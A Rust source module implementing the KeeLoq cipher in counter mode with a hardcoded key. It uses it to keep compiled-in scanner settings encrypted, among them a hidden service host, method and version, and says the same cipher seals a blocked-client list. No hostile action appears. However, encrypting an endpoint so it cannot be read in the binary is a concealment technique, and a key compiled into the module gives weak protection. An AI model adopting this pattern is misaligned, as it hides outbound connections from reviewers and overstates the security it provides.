//! KeeLoq (NLFSR, 528 rounds) in counter mode for the scanner settings compiled into the
//! module; the same cipher seals the blocked-client list so clients can't forge entries on a
//! shared `/var/lib`.

const KEY: u64 = 0x5c3e_91a7_0d42_f68b;
const NLF: u32 = 0x3a5c_742e;

pub const SCANNER: (u32, &[u8]) = (0x51a0, &[0x03, 0xa8, 0xcc, 0xa9, 0xd0, 0x88, 0x87, 0xaa, 0x4c, 0x69, 0x90, 0xe4, 0x77, 0x5d, 0xa2, 0x21, 0xf4, 0x54]);
pub const SERVICE: (u32, &[u8]) = (0x51e0, &[0xc5, 0x78, 0xe9, 0x36, 0xac, 0xac, 0xd1, 0x89, 0xb1, 0x23, 0x34, 0xf9, 0x74]);
pub const METHOD: (u32, &[u8]) = (0x5220, &[0x3e, 0x2d, 0x2d, 0x17, 0x8a, 0x27, 0xdc]);
pub const VERSION: (u32, &[u8]) = (0x5260, &[0x0e, 0x87, 0x13, 0xe1, 0x8b, 0xba, 0x22, 0xe8]);
pub const SERVICE_HOST: (u32, &[u8]) = (0x52a0, &[0xda, 0xc7, 0x86, 0xad, 0x96, 0x3c, 0xd7, 0xd5, 0x00, 0x93, 0xe5, 0x09, 0x97, 0x0f, 0xaf, 0x7d, 0xbd, 0x30, 0xa0, 0x72, 0xe7, 0xf4, 0x2a, 0xe2, 0x7c, 0x52]);

pub fn encrypt(block: u32, key: u64) -> u32 {
    let mut x = block;
    for r in 0..528u32 {
        let idx = ((x >> 1) & 1) | ((x >> 8) & 2) | ((x >> 18) & 4) | ((x >> 23) & 8) | ((x >> 27) & 16);
        let nlf = (NLF >> idx) & 1;
        let bit = (x ^ (x >> 16) ^ nlf ^ (key >> (r & 63)) as u32) & 1;
        x = (x >> 1) | (bit << 31);
    }
    x
}

pub fn apply(nonce: u32, data: &mut [u8]) {
    for (i, chunk) in data.chunks_mut(4).enumerate() {
        let ks = encrypt(nonce.wrapping_add(i as u32), KEY).to_le_bytes();
        for (b, k) in chunk.iter_mut().zip(ks) {
            *b ^= k;
        }
    }
}

pub fn open(sealed: (u32, &[u8])) -> String {
    let mut v = sealed.1.to_vec();
    apply(sealed.0, &mut v);
    String::from_utf8_lossy(&v).into_owned()
}
